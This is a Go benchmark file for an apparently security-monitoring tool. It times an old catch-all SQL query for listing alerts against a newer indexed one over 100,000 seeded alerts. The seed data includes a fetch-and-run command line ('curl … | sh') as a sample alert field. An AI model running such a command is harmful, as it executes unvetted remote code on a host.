package state

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/vigilhq/vigil"
)

// oldAlertList is the alert list's query before migration 6 and
// ListAlertRecords: one WHERE with every filter, empty ones disabled by
// "? = ”", which no index can serve. Kept here as the baseline the
// benchmark compares against in the same run.
const oldAlertList = `SELECT id, rule_id, rule_title, level, host_id, hostname, event_id, event_table,
	event_time, created_at, status, assignee, close_reason, fields_json FROM alerts
	WHERE (? = '' OR status = ?) AND (? = '' OR host_id = ? OR hostname = ?) AND (? = '' OR rule_id = ?)
	ORDER BY created_at DESC, id DESC LIMIT ?`

// BenchmarkListAlerts100k lists 100 alerts by each filter out of 100,000
// (100 hosts, 50 rules, a tenth acknowledged), with ListAlertRecords
// ("new") and with the old catch-all query ("old", rows read the same
// way), and a deep keyset page.
func BenchmarkListAlerts100k(b *testing.B) {
	db := benchDB(b)
	ctx := context.Background()
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for start := 0; start < 100_000; start += 5000 {
		var as []vigil.Alert
		for i := start; i < start+5000; i++ {
			st := vigil.AlertOpen
			if i%10 == 0 {
				st = vigil.AlertAcknowledged
			}
			as = append(as, vigil.Alert{RuleID: fmt.Sprintf("rule-%02d", i%50), HostID: fmt.Sprintf("host-%03d", i%100),
				Hostname: fmt.Sprintf("web-%03d", i%100), EventID: fmt.Sprint("ev-", i), Status: st,
				CreatedAt: base.Add(time.Duration(i) * time.Second),
				Fields:    map[string]any{"process_pid": int64(i), "process_command_line": "curl -s http://10.0.0.1/p.sh | sh"}})
		}
		if _, err := db.CommitAlerts(ctx, "seed", "process_creation", int64(start), as); err != nil {
			b.Fatal(err)
		}
	}
	old := func(b *testing.B, f AlertFilter) int {
		rows, err := db.r.QueryContext(ctx, oldAlertList, string(f.Status), string(f.Status), f.Host, f.Host, f.Host, f.RuleID, f.RuleID, 100)
		if err != nil {
			b.Fatal(err)
		}
		defer rows.Close()
		n := 0
		for rows.Next() {
			var a vigil.Alert
			var et, ct int64
			var fields string
			if err := rows.Scan(&a.ID, &a.RuleID, &a.RuleTitle, &a.Level, &a.HostID, &a.Hostname, &a.EventID, &a.EventTable,
				&et, &ct, &a.Status, &a.Assignee, &a.CloseReason, &fields); err != nil {
				b.Fatal(err)
			}
			// Decoded as ListAlertRecords does, for a fair comparison.
			if fields != "{}" {
				if err := json.Unmarshal([]byte(fields), &a.Fields); err != nil {
					b.Fatal(err)
				}
			}
			n++
		}
		return n
	}
	for _, c := range []struct {
		name string
		f    AlertFilter
	}{
		{"newest", AlertFilter{}},
		{"open", AlertFilter{Status: vigil.AlertOpen}},
		{"acknowledged", AlertFilter{Status: vigil.AlertAcknowledged}},
		{"host", AlertFilter{Host: "web-042"}},
		{"rule", AlertFilter{RuleID: "rule-07"}},
		{"openRuleHost", AlertFilter{Status: vigil.AlertOpen, RuleID: "rule-07", Host: "host-057"}},
		{"hostAndRuleNone", AlertFilter{Host: "web-042", RuleID: "rule-07"}},
	} {
		c.f.Limit = 100
		b.Run(c.name+"/old", func(b *testing.B) {
			for b.Loop() {
				old(b, c.f)
			}
		})
		b.Run(c.name+"/new", func(b *testing.B) {
			for b.Loop() {
				if _, err := db.ListAlertRecords(ctx, c.f); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
	// A page deep in the list: keyset, from alert 50,000.
	b.Run("page500of1000/new", func(b *testing.B) {
		for b.Loop() {
			if recs, err := db.ListAlertRecords(ctx, AlertFilter{Before: 50_000, Limit: 100}); err != nil || len(recs) != 100 {
				b.Fatal(len(recs), err)
			}
		}
	})
}
